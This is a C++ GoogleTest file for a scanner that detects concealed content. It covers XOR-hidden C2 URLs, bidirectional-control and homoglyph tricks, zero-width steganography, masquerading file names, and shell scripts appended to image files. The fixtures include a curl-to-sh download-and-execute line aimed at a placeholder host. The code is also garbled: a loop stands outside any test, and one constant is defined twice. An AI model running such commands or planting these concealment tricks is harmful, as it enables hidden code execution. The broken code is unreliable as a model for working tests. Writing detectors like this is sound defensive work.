#include <gtest/gtest.h>

#include "evidence/recorder.h"
#include "parse/mutants.h"

namespace examine {
const evidence::Reader& pictures();

namespace {

using namespace std::string_literals;
using evidence::Confidence;
using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view kind) { return evidence::read_alone(pictures(), base::bytes_of(text), kind, "x"); }
std::vector<evidence::Item> hidden(const evidence::Reading& r, std::string_view word) { return r.sink.all(Facet::concealment, word); }

const std::string png = "\x89PNG\r\n\x1a\n" + noise(300);
  for (const auto& text : {"img = 'data:image/png;base64," + base64(png) + "'", "x='" + base64(noise(300)) + "'", "sha = " + hex(noise(32)),
                           "-----BEGIN CERTIFICATE-----\n" + base64("import os; os.system('x') and more and more and more") + "\n-----END CERTIFICATE-----\n",
                           "x='" + base64("This is an ordinary sentence that somebody has encoded for a mail, no more than that.") + "'",
                           std::string("usr/lib/python3/dist-packages/somewhere/deep/inside/the/tree/of/a/package"), "x='" + base64("{\"version\":3,\"sources\":[\"a.js\"],\"names\":[],\"mappings\":\"AAAA\"}") + "'"}) {
    const auto r = look(text, "script/python");
    EXPECT_TRUE(r.sink.items.empty()) << text;
    EXPECT_TRUE(r.sink.children.empty()) << text;
  }
}

TEST(Concealment, XoredTextWithAnyKey) {
  std::string bytes = noise(500);
  for (const char c : "\x01http://c2.vendor.invalid/beacon\x01"sv) bytes += static_cast<char>(c ^ 0x5a);
  bytes += noise(500, 2);
  const auto r = look(bytes, "elf");
  ASSERT_EQ(hidden(r, "decoded-string").size(), 1u);
  EXPECT_EQ(hidden(r, "decoded-string")[0].attributes.at("key"), "0x5a");
  EXPECT_NE(child(r).find("http://c2.vendor.invalid/beacon"), std::string::npos);
  EXPECT_TRUE(look("http://plain.vendor.invalid/ HTTP", "elf").sink.items.empty());
}

TEST(Concealment, DenseUnknownBytesAreOpaque) {
  const auto bytes = noise(20000);
  const auto r = look(bytes, "unknown");
  ASSERT_EQ(hidden(r, "encrypted-payload").size(), 1u);
  EXPECT_EQ(hidden(r, "encrypted-payload")[0].confidence, Confidence::low);
  ASSERT_EQ(r.sink.claims.size(), 1u);
  EXPECT_EQ(r.sink.claims[0].range, (base::Range{0, 20000}));
  EXPECT_TRUE(look(std::string(20000, 'x') + "\0"s.substr(0), "unknown").sink.items.empty());
  EXPECT_TRUE(look(bytes, "gzip").sink.items.empty());
}

TEST(Concealment, BidirectionalControlsInCode) {
  const auto r = look("if level != \"user\xe2\x80\xae \xe2\x81\xa6# check\xe2\x81\xa9 \xe2\x81\xa6\": pass\nx\n", "script/python");
  ASSERT_EQ(hidden(r, "mismatch").size(), 1u);
  EXPECT_EQ(hidden(r, "mismatch")[0].confidence, Confidence::medium);
  EXPECT_TRUE(look("x = '\xe2\x80\x8f\xd7\x90\xd7\x91'\n# \xe2\x81\xa7\xd7\x90\xe2\x81\xa9\n", "script/python").sink.items.empty());
  EXPECT_TRUE(look("a \xe2\x80\xae b", "text", "README").sink.items.empty());
}

TEST(Concealment, WidthlessRunCarriesBytes) {
  std::string run;
  for (int i = 0; i < 40; ++i) run += "\xf3\xa0\x84\x80";
  EXPECT_EQ(hidden(look("x = '" + run + "'", "script/javascript"), "steganography").size(), 1u);
  EXPECT_TRUE(look("x = 'a\xe2\x80\x8d" "b'", "script/javascript").sink.items.empty());
}

TEST(Concealment, LettersOfTwoScripts) {
  EXPECT_EQ(hidden(look("def ch\xd0\xb5" "ck(): pass", "script/python"), "mismatch").size(), 1u);
  EXPECT_TRUE(look("# \xd0\xbf\xd1\x80\xd0\xbe\xd0\xb2\xd0\xb5\xd1\x80\xd0\xba\xd0\xb0 check", "script/python").sink.items.empty());
}

TEST(Concealment, Names) {
  EXPECT_TRUE(look("\x7f" "ELF", "elf", "usr/bin/.helper").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "elf", "usr/lib/... /x").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "text", "tmp/.ICE-x").sink.has(Facet::concealment, "hidden-file"));
  EXPECT_TRUE(look("x", "pe", "photo\xe2\x80\xaegpj.exe").sink.has(Facet::concealment, "masquerade"));
  EXPECT_TRUE(look("x", "elf", "usr/bin/p\xd1\x83thon").sink.has(Facet::concealment, "masquerade"));
  for (const auto name : {"usr/lib/node_modules/a/.eslintrc.js", "src/.gitignore", "usr/share/doc/a/.htaccess", "etc/skel/.bashrc", "usr/share/\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82/x", "a/b..c"})
    EXPECT_TRUE(look("x", "text", name).sink.items.empty()) << name;
}

const std::string png = "\x89PNG\r\n\x1a\n"s + "\0\0\0\x0dIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0AAAA"s + "\0\0\0\4IDATxxxxBBBB"s + "\0\0\0\0IENDCCCC"s;
const std::string gif = "GIF89a\1\0\1\0\x80\0\0AAABBB"s + "\x21\xf9\4XXXX\0"s + "\x2c\0\0\0\0\1\0\1\0\0\2\2ab\0\x3b"s;
const std::string jpeg = "\xff\xd8\xff\xe0\0\4ab\xff\xda\0\4cd"s + "data\xff\0\xff\xd0more"s + "\xff\xd9"s;

TEST(Pictures, BytesAfterTheEnd) {
  for (const auto& [picture, kind] : {std::pair{png, "png"}, std::pair{gif, "gif"}, std::pair{jpeg, "jpeg"}}) {
    EXPECT_TRUE(look(picture, kind).sink.items.empty()) << kind;
    EXPECT_TRUE(look(picture + std::string(64, '\0'), kind).sink.items.empty()) << kind;
    const auto r = look(picture + "#!/bin/sh\n" + "curl -s http://payload.invalid/x | sh\n", kind);
    ASSERT_EQ(hidden(r, "steganography").size(), 1u) << kind;
    EXPECT_EQ(hidden(r, "steganography")[0].range.offset, picture.size());
    EXPECT_EQ(hidden(r, "steganography")[0].confidence, Confidence::medium);
    ASSERT_EQ(r.sink.children.size(), 1u);
    EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::embedded);
    EXPECT_EQ(hidden(look(picture + "\x91\x07\xfe\x33\xa8 bytes of no known form \xc4\xd5"s, kind), "steganography")[0].confidence, Confidence::low);
  }
}

TEST(Pictures, TruncatedAndMutated) {
  for (const auto& [picture, kind] : {std::pair{png, "png"}, std::pair{gif, "gif"}, std::pair{jpeg, "jpeg"}}) {
    const auto text = picture + "#!/bin/sh\n";
    const auto try_it = [kind = kind](base::Bytes b) {
      const auto r = evidence::read_alone(pictures(), b, kind);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), b.size());
      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), b.size());
    };
    parse::each_truncation(base::bytes_of(text), try_it);
    parse::each_mutant(base::bytes_of(text), 1000, 9, try_it);
  }
}

}  // namespace
}  // namespace examine
